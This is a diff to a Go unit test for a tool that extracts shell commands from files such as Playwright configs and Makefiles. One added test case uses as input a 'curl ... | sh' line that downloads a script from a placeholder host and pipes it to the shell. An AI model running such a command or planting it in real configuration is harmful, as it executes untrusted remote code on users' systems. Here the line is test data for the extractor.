@@ -87,6 +87,12 @@ func TestPieceCode(t *testing.T) {
 			want: []string{"pip install 'setuptools>=68' wheel 'helper @ https://files.x.example/helper-0.3.tar.gz'"},
 		},
 		{
+			name: "a command key in a piece of a JavaScript configuration",
+			path: "/p/playwright.config.ts",
+			text: "    command: 'curl -s https://x.example/w.sh | sh; npm run start',\n",
+			want: []string{"curl -s https://x.example/w.sh | sh; npm run start"},
+		},
+		{
 			name: "what the kind's own reader finds comes first",
 			path: "/p/Makefile",
 			text: "\tgo test ./...\n",
@@ -106,7 +112,7 @@ func TestPieceCode(t *testing.T) {
 					got = append(got, "opaque: "+c.Opaque)
 				case c.Lang == Shell:
 					got = append(got, c.Text)
-				}
+				} // code of a language moat reads (JavaScript) is the reader's, not listed
 			}
 			if !slices.Equal(got, tt.want) {
 				t.Errorf("got %q\nwant %q", got, tt.want)
